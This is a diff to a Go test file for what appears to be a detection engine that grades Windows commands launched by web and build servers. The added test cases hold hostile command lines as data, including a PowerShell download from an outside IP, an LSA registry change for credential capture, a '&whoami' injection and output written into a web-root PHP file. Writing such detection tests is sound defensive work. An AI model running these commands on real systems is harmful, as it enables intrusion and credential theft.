@@ -135,6 +135,7 @@ const (
 	wmiDisk         = "TechNet Wiki 35609, disk space by WMI from SQL Server"
 	jenkinsPS       = "jenkinsci/powershell-plugin PowerShell.java"
 	toolshell       = "microsoft.com/en-us/security/blog/2025/07/22 (ToolShell)"
+	veeamScripts    = "helpcenter.veeam.com, scripts of backup jobs"
 )
 
 // TestBehaviour: what intruders do is high or critical, whatever shell it is
@@ -211,6 +212,19 @@ func TestBehaviour(t *testing.T) {
 		{"SigmaHQ proc_creation_win_susp_execution_path", "iis", []string{`cmd.exe /c C:\Windows\Temp\x.exe`}, high},
 		{"SigmaHQ proc_creation_win_rundll32_susp_activity", "iis", []string{`rundll32.exe c:\programdata\afk.ttf,bkfkals`}, high},
 		{"github.com/noperator/CVE-2019-18935", "iis", []string{`cmd.exe`}, high},
+		{"SigmaHQ proc_creation_win_netsh_fw_add_rule", "iis", []string{`cmd.exe /c netsh advfirewall firewall add rule name="a" dir=in action=allow`}, critical},
+		{"SigmaHQ proc_creation_win_netsh_fw_add_rule", "iis", []string{`cmd.exe /c netsh advfirewall firewall show rule name=all`}, high},
+		{"Cisco Talos 2019-04-30 Sodinokibi", "tomcat", []string{`powershell.exe wget http://203.0.113.1/office.exe -outfile C:\x\office.exe`}, high},
+		{"SigmaHQ dns_query_win_susp_external_ip_lookup", "apache", []string{`cmd.exe /s /c "curl https://api.ipify.org"`}, high},
+		{"SigmaHQ dns_query_win_susp_external_ip_lookup", "apache", []string{`cmd.exe /s /c "curl https://intranet.example/ident.me"`}, rules.LevelMedium},
+		{"SigmaHQ proc_creation_win_susp_eventlog_content_recon", "iis", []string{`cmd.exe /c wevtutil qe security /q:*[System[(EventID=4624)]]`}, high},
+		{"Elastic defense_evasion_execution_from_unusual_directory", "iis", []string{`C:\Windows\appcompat\a\b.exe := b.exe`}, critical},
+		{"SigmaHQ proc_creation_win_susp_system_exe_anomaly", "iis", []string{`C:\Windows\System32\conhost\conhost.exe := conhost.exe /usermode`}, high},
+		{"SigmaHQ proc_creation_win_susp_system_exe_anomaly", "iis", []string{`C:\ProgramData\conhost.exe := `}, critical},
+		{"SigmaHQ proc_creation_win_susp_system_exe_anomaly", "iis", []string{`D:\app\wmiprvse.exe := wmiprvse.exe`}, high},
+		{"attack.mitre.org T1055.012", "teamcity", []string{`C:\Windows\System32\dllhost.exe := dllhost.exe`}, high},
+		{"attack.mitre.org T1556.002", "iis", []string{`cmd.exe /c reg add HKLM\SYSTEM\CurrentControlSet\Control\Lsa /v "Notification Packages" /d "scecli\0a" /f`}, high},
+		{"attack.mitre.org T1556.002", "iis", []string{`cmd.exe /c reg add HKLM\SOFTWARE\Shop /v Packages /d a /f`}, rules.LevelMedium},
 	})
 }
 
@@ -226,6 +240,23 @@ func TestHabits(t *testing.T) {
 		{windowsCommands, "iis", []string{`cmd.exe /c fsutil fsinfo drives`}, high},
 		{windowsCommands, "iis", []string{`cmd.exe /c net start spooler`}, medium},
 		{windowsCommands, "iis", []string{`cmd.exe /c net start`}, high},
+		{veeamScripts, "tomcat", []string{`cmd.exe /c net stop OrderService`}, medium},
+		{veeamScripts, "tomcat", []string{`net stop "Veeam Backup Service"`}, high},
+		{"hstechdocs.helpsystems.com, EFT, Execute command", "tomcat", []string{`"C:\Windows\System32\cscript.exe" //nologo "C:\EFT\archive\a.vbs" D:\in\a.csv`}, medium},
+		{"hstechdocs.helpsystems.com, EFT, Execute command", "tomcat", []string{`"C:\Windows\System32\cscript.exe" //nologo "C:\Windows\Temp\a.vbs" D:\in\a.csv`}, high},
+		{"jenkinsci/jenkins ArgumentListBuilder.java", "jenkins", []string{`cmd.exe /C " "C:\BuildTools\Bin\MSBuild.exe" /p:Configuration=Release App.sln " && exit %%ERRORLEVEL%%`}, medium},
+		{"jenkinsci/jenkins ArgumentListBuilder.java", "runtime", []string{`cmd.exe /C "C:\maven\bin\mvn.cmd -B install && exit %%ERRORLEVEL%%"`}, medium},
+		{"jenkinsci/jenkins ArgumentListBuilder.java", "jenkins", []string{`cmd.exe /C "C:\Windows\Temp\a.exe && exit %%ERRORLEVEL%%"`}, high},
+		{"jenkinsci/jenkins ArgumentListBuilder.java", "iis", []string{`cmd.exe /C "C:\maven\bin\mvn.cmd -B install && exit %%ERRORLEVEL%%"`}, high},
+		{"matomo-org/matomo CliMulti.php", "apache", []string{`cmd.exe /s /c ""C:\php\php.exe" -q D:\matomo\console climulti:request -q --matomo-domain="a.example" "module=API&method=API.get" 2>&1"`}, low},
+		{"matomo-org/matomo CliMulti.php", "apache", []string{`cmd.exe /s /c ""C:\php\php.exe" -q D:\matomo\console climulti:request -q --matomo-domain="a.example" "module=API"&whoami"`}, high},
+		{"docs.cacti.net, Installing Under Windows", "apache", []string{`cmd.exe /s /c "C:\usr\bin\snmpwalk.exe -v2c -c public 10.1.1.1"`}, low},
+		{"docs.cacti.net, Installing Under Windows", "apache", []string{`cmd.exe /s /c "C:\usr\bin\snmpwalk.exe -v2c -c public 10.1.1.1 > C:\www\a.php"`}, critical},
+		{"danielzzz/node-ping lib/builder/win.js", "next", []string{`ping -n 1 -w 5000 10.1.1.1`}, low},
+		{"danielzzz/node-ping lib/builder/win.js", "next", []string{`ping -n 1 10.1.1.1`}, medium},
+		{"servicenow.com, PowerShell probe", "splunk", []string{`powershell.exe -WindowStyle Hidden -command "& 'C:\MID\agent\scripts\a.ps1' -computer 'app01'"`}, low},
+		{"servicenow.com, PowerShell probe", "splunk", []string{`powershell.exe -WindowStyle Hidden -enc dwBoAG8AYQBtAGkA`}, high},
+		{"servicenow.com, PowerShell probe", "splunk", []string{`powershell.exe -WindowStyle Hidden -File C:\Windows\Temp\a.ps1`}, high},
 		{windowsCommands, "tomcat", []string{`cmd.exe /c tasklist /fi "imagename eq soffice.bin"`}, medium},
 		{windowsCommands, "tomcat", []string{`cmd.exe /c tasklist /fi "imagename eq MsMpEng.exe"`}, high},
 		{windowsCommands, "iis", []string{`cmd.exe /c certutil -hashfile D:\drop\a.zip SHA256`}, medium},
